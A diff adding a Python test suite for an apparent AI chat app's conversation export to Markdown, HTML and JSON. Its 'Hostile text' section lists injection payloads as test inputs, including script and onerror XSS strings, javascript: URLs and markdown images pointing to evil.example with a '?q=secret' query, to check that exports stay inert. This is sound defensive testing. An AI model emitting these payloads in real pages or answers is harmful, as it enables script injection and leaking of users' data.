@@ -1,0 +1,364 @@
+from __future__ import annotations
+
+import json
+from dataclasses import replace
+from datetime import timedelta, timezone
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
+
+from core.conversation import Message
+from core.events import Notice, RunEvent, RunFailed, RunStopped, SearchFinished, Source
+from core.export import answer_as_markdown, as_html, as_json, as_markdown, disarm
+from core.search.types import SearchQuery, SearchResponse
+from support.messages import FULL
+
+SHANGHAI = timezone(timedelta(hours=8))
+NOON = 1_763_265_600.0  # 2025-11-16 12:00 in Shanghai
+QUESTION = Message("user", "离婚要什么条件？\n<b>急</b>", id="q", created=NOON)
+SOURCES = (
+    Source(1, "民法典", "https://flk.npc.gov.cn/detail?id=1&x=2", "第一千零七十九条 …", "tavily"),
+    Source(2, "没被引用", "https://example.org/two", "无关", "tavily"),
+    Source(4, "最高法解释", "https://www.court.gov.cn/a_(b)_c", "感情破裂的认定", "tavily"),
+)
+SEARCH = SearchFinished(SearchResponse(SearchQuery("离婚 条件"), provider="tavily", search_time=0.84), SOURCES)
+ANSWER = Message(
+    "assistant",
+    "感情确已破裂。[1][4]\n\n```python\nif a[0](x) < 1: pass\n```\n",
+    (SEARCH, Notice("partial", "有 2 条结果无法读取。")),
+    (SOURCES[0], SOURCES[2]),
+    seconds=3.2,
+    id="a",
+    model="gpt-5-mini",
+    created=NOON + 5,
+)
+TALK = (QUESTION, ANSWER)
+
+# The strictest reader: with HTML, tables and definitions, as the programs that people open such files with.
+VIEWER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+
+
+def tokens(markdown: str) -> list[Token]:
+    found: list[Token] = []
+    for token in VIEWER.parse(markdown):
+        found += [token, *(token.children or ())]
+    return found
+
+
+def links(markdown: str) -> list[str]:
+    return [str(token.attrGet("href")) for token in tokens(markdown) if token.type == "link_open"]
+
+
+def dangers(markdown: str) -> list[str]:
+    """Everything that loads, runs, or is a link."""
+    return [
+        token.type for token in tokens(markdown) if token.type in {"link_open", "image", "html_inline", "html_block"}
+    ]
+
+
+class Page(HTMLParser):
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.open: list[str] = []
+        self.text = ""
+        self.feed(html)
+        self.close()
+        assert self.open == []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+        if tag not in {"br", "hr", "meta"}:
+            self.open.append(tag)
+
+    def handle_endtag(self, tag: str) -> None:
+        assert self.open.pop() == tag
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    @property
+    def outside(self) -> set[str | None]:
+        links = {attributes.get("href") for tag, attributes in self.tags if tag == "a"}
+        return {link for link in links if not str(link).startswith("#")}
+
+
+# ── What is in it ─────────────────────────────────────────────────────────────────────────────────────────────────
+
+
+def test_markdown_has_everything() -> None:
+    assert as_markdown("离婚 条件", TALK, zone=SHANGHAI) == (
+        "# 离婚 条件\n\n"
+        "## 问\n\n"
+        "*2025-11-16 12:00（UTC+08:00）*\n\n"
+        "离婚要什么条件？\n\\<b>急\\</b>\n\n"
+        "## 答\n\n"
+        "*gpt-5-mini · 2025-11-16 12:00（UTC+08:00） · 3.2 秒*\n\n"
+        "感情确已破裂。[1][4]\n\n```python\nif a[0](x) < 1: pass\n```\n\n"
+        "**参考文献**\n\n"
+        "- \\[1\\] [民法典](https://flk.npc.gov.cn/detail?id=1&x=2) — flk.npc.gov.cn：第一千零七十九条 …\n"
+        "- \\[4\\] [最高法解释](https://www.court.gov.cn/a_%28b%29_c) — court.gov.cn：感情破裂的认定\n\n"
+        "> 搜索「离婚 条件」：tavily，找到 0 条，0.8 秒\n\n"
+        "> 有 2 条结果无法读取。\n"
+    )
+
+
+def test_one_answer_for_the_clipboard() -> None:
+    copied = answer_as_markdown(ANSWER)
+    assert copied.startswith("感情确已破裂。[1][4]")
+    assert links(copied) == ["https://flk.npc.gov.cn/detail?id=1&x=2", "https://www.court.gov.cn/a_%28b%29_c"]
+    assert answer_as_markdown(Message("assistant", "没有来源。")) == "没有来源。\n"
+
+
+def test_html_has_everything_and_stands_alone() -> None:
+    html = as_html("离婚 <条件>", TALK, zone=SHANGHAI)
+    page = Page(html)
+    for wanted in ("问", "答", "离婚 <条件>", "<b>急</b>", "gpt-5-mini", "2025-11-16 12:00", "参考文献", "民法典",
+                   "flk.npc.gov.cn", "第一千零七十九条", "搜索「离婚 条件」", "有 2 条结果无法读取。"):  # fmt: skip
+        assert wanted in page.text, wanted
+    assert "没被引用" not in page.text
+    assert page.outside == {SOURCES[0].url, SOURCES[2].url}
+    names = [tag for tag, _ in page.tags]
+    assert not {"script", "img", "iframe", "link", "object", "form"} & set(names)
+    assert not any(name.startswith("on") or name == "src" for _, attributes in page.tags for name in attributes)
+    assert "url(" not in html
+    policy = next(attributes["content"] for _, attributes in page.tags if "http-equiv" in attributes)
+    assert str(policy).startswith("default-src 'none'")
+    identities = [attributes["id"] for _, attributes in page.tags if "id" in attributes]
+    assert len(identities) == len(set(identities))
+
+
+def test_two_answers_in_one_page_have_anchors_of_their_own() -> None:
+    page = Page(as_html("题", (*TALK, *TALK)))
+    identities = [attributes["id"] for _, attributes in page.tags if "id" in attributes]
+    assert len(identities) == len(set(identities)) == 8
+    inner = [
+        str(attributes["href"]) for tag, attributes in page.tags if tag == "a" and str(attributes["href"])[0] == "#"
+    ]
+    assert {link[1:] for link in inner} <= set(identities)
+
+
+def test_json_is_the_documented_document() -> None:
+    document = json.loads(as_json("离婚 条件", TALK, zone=SHANGHAI))
+    assert document.pop("exported").endswith("+08:00")
+    assert document == {
+        "format": "wenyuan-conversation",
+        "version": 1,
+        "title": "离婚 条件",
+        "messages": [
+            {
+                "id": "q",
+                "role": "user",
+                "label": "问",
+                "text": "离婚要什么条件？\n<b>急</b>",
+                "created": "2025-11-16T12:00:00+08:00",
+            },
+            {
+                "id": "a",
+                "role": "assistant",
+                "label": "答",
+                "text": ANSWER.text,
+                "created": "2025-11-16T12:00:05+08:00",
+                "model": "gpt-5-mini",
+                "seconds": 3.2,
+                "complete": True,
+                "references": [
+                    {
+                        "number": 1,
+                        "title": "民法典",
+                        "url": "https://flk.npc.gov.cn/detail?id=1&x=2",
+                        "domain": "flk.npc.gov.cn",
+                        "summary": "第一千零七十九条 …",
+                    },
+                    {
+                        "number": 4,
+                        "title": "最高法解释",
+                        "url": "https://www.court.gov.cn/a_(b)_c",
+                        "domain": "court.gov.cn",
+                        "summary": "感情破裂的认定",
+                    },
+                ],
+                "searches": [
+                    {
+                        "query": "离婚 条件",
+                        "type": "general",
+                        "provider": "tavily",
+                        "results": 0,
+                        "seconds": 0.84,
+                        "fromCache": False,
+                    }
+                ],
+                "notices": ["有 2 条结果无法读取。"],
+            },
+        ],
+    }
+
+
+@pytest.mark.parametrize(
+    ("last", "said"),
+    [
+        (RunStopped("user"), "已停止"),
+        (RunFailed("model", "连接不上模型服务。"), "连接不上模型服务。"),
+        (Notice("unfinished", "这条回答在写完之前中断了"), "中断了"),
+    ],
+)
+def test_an_answer_that_is_not_whole_says_so(last: RunEvent, said: str) -> None:
+    answer = replace(ANSWER, events=(*ANSWER.events, last))
+    assert said in as_markdown("题", [answer])
+    assert said in Page(as_html("题", [answer])).text
+    assert json.loads(as_json("题", [answer]))["messages"][0]["complete"] is False
+
+
+def test_a_search_that_failed_and_one_from_a_cache() -> None:
+    failed = SearchFinished(SearchResponse(SearchQuery("问\n题"), search_time=5))
+    cached = SearchFinished(SearchResponse(SearchQuery("缓存"), provider="exa", from_cache=True))
+    markdown = as_markdown("题", [replace(ANSWER, events=(failed, cached))])
+    assert "搜索「问 题」：没有成功，5.0 秒" in markdown
+    assert "搜索「缓存」：exa，找到 0 条，0.0 秒，来自缓存" in markdown
+
+
+def test_an_empty_conversation_and_a_damaged_date() -> None:
+    odd = [replace(FULL, created=created, model="") for created in (float("nan"), float("inf"), -1e300, 0.0)]
+    for messages in ([], odd):
+        assert as_markdown(" ", messages).startswith("# 未命名的对话")
+        assert "未命名的对话" in Page(as_html("", messages)).text
+        assert json.loads(as_json("", messages))["title"] == "未命名的对话"
+
+
+# ── Hostile text ──────────────────────────────────────────────────────────────────────────────────────────────────
+
+HOSTILE_TITLES = [
+    "](https://evil.example) [x",
+    "x](javascript:alert(1))",
+    "![](https://evil.example/pixel.png)",
+    "<img src=https://evil.example/x.png onerror=alert(1)>",
+    "</title></h1><script>alert(1)</script>",
+    "`code](https://evil.example)`",
+    "``` \n# 标题\n\n[x]: https://evil.example",
+    "\\](https://evil.example)",
+    "<https://evil.example>",
+    "<!-- ",
+    "&#91;x&#93;(https://evil.example) &lt;b&gt;",
+    "a\n\n- [x](https://evil.example)",
+    "\u202e反\x00\ud800",
+    '" onclick="alert(1)',
+]
+HOSTILE_URLS = [
+    "javascript:alert(1)",
+    "data:text/html,<script>",
+    "//evil.example",
+    "https://evil.example/) [x](https://worse.example",
+    "https://evil.example/> <script>",
+    'https://evil.example/" onclick="alert(1)',
+    "https://evil.example/`",
+    "https://evil.example/\\",
+    "https://evil.example/?a=1&lt;b&#62;",
+    "https://evil.example/a\nb",
+    "https:// evil.example",
+]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_TITLES)
+def test_a_hostile_title_stays_text(hostile: str) -> None:
+    source = Source(1, hostile, "https://good.example/", hostile, hostile)
+    search = SearchFinished(SearchResponse(SearchQuery(hostile), provider=hostile), (source,))
+    answer = Message("assistant", "是。[1]", (search, Notice("x", hostile)), (source,), model=hostile)
+    markdown = as_markdown(hostile, [Message("user", "问"), answer])
+    assert links(markdown) == ["https://good.example/"]
+    assert dangers(markdown) == ["link_open"]
+    assert [token.tag for token in tokens(markdown) if token.type == "heading_open"] == ["h1", "h2", "h2"]
+    assert Page(as_html(hostile, [answer])).outside == {"https://good.example/"}
+    assert "alert(1)</script>" not in as_html(hostile, [answer])
+    assert json.loads(as_json(hostile, [answer]))["messages"][0]["references"][0]["number"] == 1
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_URLS)
+def test_a_hostile_address_leads_nowhere_else(hostile: str) -> None:
+    source = Source(1, "题", hostile, "摘要")
+    answer = Message("assistant", "是。[1]", (), (source,))
+    found = links(answer_as_markdown(answer))
+    assert all(link.startswith("https://evil.example/") for link in found)
+    assert len(found) == len(dangers(answer_as_markdown(answer))) <= 1
+    assert all(str(link).startswith("https://evil.example/") for link in Page(as_html("题", [answer])).outside)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![](https://evil.example/?q=secret)",
+        "[点我](https://evil.example)",
+        "看 [1]。\n\n[1]: https://evil.example",
+        "<img src=https://evil.example>",
+        "<https://evil.example>",
+        "\\`![](https://evil.example)\\`",
+        "\\``x` ![](https://evil.example) `",
+        "a `b\nc` ![](https://evil.example) `d`",
+        "a `\n===\n![](https://evil.example) `",
+        "- `a\n- ![](https://evil.example) `b",
+        "|a|b|\n|-|-|\n|`x|![](https://evil.example) `|",
+        "$$ a $$\n    ![](https://evil.example)",
+        "$$ a\n```\n$$\n```\n![](https://evil.example)",
+        "\\\\<img src=x>",
+        "> `a\n\n![](https://evil.example) `",
+        "[a][b]\n\n[b]:\nhttps://evil.example",
+        "[^1]\n\n[^1]: ![](https://evil.example)",
+    ],
+)
+def test_an_answer_can_neither_link_nor_load(text: str) -> None:
+    assert dangers(disarm(text)) == []
+    assert dangers(as_markdown("题", [Message("user", text), Message("assistant", text)])) == []
+
+
+pieces = ["`", "``", "```", "\n", "\n\n", "    ", "- ", "> ", "|", "|-|-|\n", "===", "---", "$$", "\\", "[", "]", "(", ")",
+          ":", "!", "<", ">", "img src=x", "/b", "https://e.example", "x", "1", "字", "# ", "*", "~~~", "&", "\t"]  # fmt: skip
+
+
+@settings(max_examples=400)
+@given(st.lists(st.sampled_from(pieces), max_size=30).map("".join))
+@example("```\n\n```\n[x](https://e.example)")
+def test_no_text_can_link_or_load(text: str) -> None:
+    assert dangers(disarm(text)) == []
+
+
+@settings(max_examples=200)
+@given(st.lists(st.sampled_from(pieces), max_size=30).map("".join))
+def test_no_answer_swallows_its_references(text: str) -> None:
+    assert links(answer_as_markdown(Message("assistant", text, (), SOURCES[:1]))) == [SOURCES[0].url]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "普通的回答[1]，第二句【2】。\n\n## 小标题\n\n- 一\n- 二\n\n| a | b |\n|---|---|\n| 1 | 2 |",
+        "`List<String>` 和 `a[0](x)`，a < b",
+        "```html\n<img src=x>\n[a](b)\n```",
+        "价格 $5，公式 $a_1 \\le 2$",
+        "1. 一\n   ```py\n   x[0](1)\n   ```\n2. 二",
+    ],
+)
+def test_an_ordinary_answer_stays_as_it_was_written(text: str) -> None:
+    assert disarm(text) == text
+
+
+def test_an_answer_cut_inside_code_is_closed() -> None:
+    assert disarm("看：\n\n````py\n```\nx = 1") == "看：\n\n````py\n```\nx = 1\n````"
+    assert disarm("```") == "```\n```"
+    assert disarm("```\n```") == "```\n```"
+    assert disarm("```\nx\n    ```").endswith("\n    ```\n```"), "indented that far, it closes nothing"
+
+
+def test_recorded_injections(shared: Path) -> None:
+    lines = (shared / "data" / "injections.jsonl").read_text("utf-8").splitlines()
+    assert len(lines) > 10
+    for line in lines:
+        hostile = json.dumps(json.loads(line), ensure_ascii=False)
+        for text in (hostile, *(value for value in json.loads(line).values() if isinstance(value, str))):
+            source = Source(1, text, "https://good.example/", text)
+            answer = Message("assistant", text, (), (source,))
+            assert links(as_markdown(text, [answer])) == ["https://good.example/"]
+            assert Page(as_html(text, [answer])).outside == {"https://good.example/"}
